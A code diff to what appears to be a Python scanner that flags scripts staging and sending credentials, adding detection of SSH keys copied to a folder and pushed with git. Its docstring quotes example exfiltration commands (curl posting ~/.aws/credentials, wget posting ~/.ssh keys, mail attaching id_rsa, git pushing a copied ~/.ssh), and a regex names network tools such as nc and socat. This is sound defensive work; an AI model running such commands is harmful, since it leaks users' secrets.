@@ -13,6 +13,9 @@ command (``curl -d @~/.aws/credentials``). Thieves just as often pass the secret
   credential paths: ``E=$(cat .env)`` or ``for k in ~/.ssh/id_*; do K="$K$(cat "$k")"; done``,
   then ``echo "$K" | wget --post-file=- …``, also when it is first copied into another
   variable (a JSON report built from it);
+* through a git repository: ``cp -r ~/.ssh /tmp/b/``, then ``cd /tmp/b && git add -A &&
+  git commit -m b && git push <remote>``, the staging folder pushed (``git -C /tmp/b push``
+  alike);
 * by mail: a mail client (``mail``, ``mutt``, ``sendmail`` ...) given a credential file as an
   attachment or as its standard input (``mail -A ~/.ssh/id_rsa``, ``mail -s x a@b < .env``);
   mail is no deployment channel, so the project's ``.env`` counts as well as home secrets.
@@ -73,7 +76,7 @@ _CREDENTIAL_HINT = re.compile(
 """A literal every credential word and environment dump holds: lines without one are skipped."""
 _SENDER_HINT = re.compile(
     r"curl|wget|\bnc\b|ncat|netcat|socat|telnet|scp|rsync|sftp|\bmail|s-nail|sendmail|mutt|msmtp"
-    r"|ssmtp|swaks|sendemail|\bgh\s|\bglab\s",
+    r"|ssmtp|swaks|sendemail|\bgh\s|\bglab\s|\bgit\s[^\n]*\bpush\b",
     re.I,
 )
 """A literal every network program in ``_SENDERS`` and ``_PUBLISHERS`` holds."""
@@ -439,6 +442,7 @@ def credential_staging(path: str, text: str) -> list[ThreatFinding]:
     staged: dict[str, int] = {}
     carriers: dict[str, str] = {}
     loop_paths: dict[str, str] = {}
+    folder = ""
     findings = []
     for number, raw in logical_lines(lines):
         loop = _loop_credential(raw)
@@ -474,6 +478,17 @@ def credential_staging(path: str, text: str) -> list[ThreatFinding]:
                 description = f"{carriers[carried[0]]} ${carried[0]} and sent over the network"
                 findings.append(staging_finding(path, lines, number, description))
                 continue
+            folder = _changed_folder(stages, folder)
+            pushed = next((p for p in (_pushed_folder(s, folder) for s in stages) if p), "")
+            held = [name for name in staged if pushed and _inside(name, pushed)]
+            if held:
+                name = min(held, key=staged.__getitem__)
+                description = (
+                    f"credentials copied to {name} (line {staged[name]}) are committed and "
+                    "pushed to a remote repository"
+                )
+                findings.append(staging_finding(path, lines, number, description))
+                continue
             sent = [name for name in staged if any(_sends_file(s, name) for s in stages)]
             if sent:
                 name = min(sent, key=staged.__getitem__)
@@ -497,6 +512,39 @@ def credential_staging(path: str, text: str) -> list[ThreatFinding]:
                 if written and written != "-" and not _names_credential(written):
                     staged.setdefault(written, number)
     return findings
+
+
+def _changed_folder(stages: list[list[str]], folder: str) -> str:
+    """The working folder after a command: its ``cd`` target, else ``folder`` unchanged."""
+    stage = stages[0]
+    if _verb(stage) == "cd" and len(stage) > _verb_index(stage) + 1:
+        return stage[_verb_index(stage) + 1].rstrip("/")
+    return folder
+
+
+def _pushed_folder(stage: list[str], folder: str) -> str:
+    """The repository folder a ``git push`` sends from (its ``-C`` folder, else the working
+    one); ``""`` when the stage pushes nothing.
+
+    >>> _pushed_folder(["git", "-C", "/tmp/b", "push", "-q", "origin"], "")
+    '/tmp/b'
+    >>> _pushed_folder(["git", "commit", "-m", "push"], "/tmp/b")
+    ''
+    """
+    if _verb(stage) != "git":
+        return ""
+    words = stage[_verb_index(stage) + 1 :]
+    for index, word in enumerate(words):
+        if word == "-C" and index + 1 < len(words):
+            folder = words[index + 1].rstrip("/")
+        elif not word.startswith("-") and (index == 0 or words[index - 1] != "-C"):
+            return folder if word == "push" else ""
+    return ""
+
+
+def _inside(name: str, folder: str) -> bool:
+    name = name.rstrip("/")
+    return name == folder or name.startswith(folder + "/")
 
 
 def _carrier(line: str, staged: dict[str, int], number: int) -> tuple[str, str] | None:
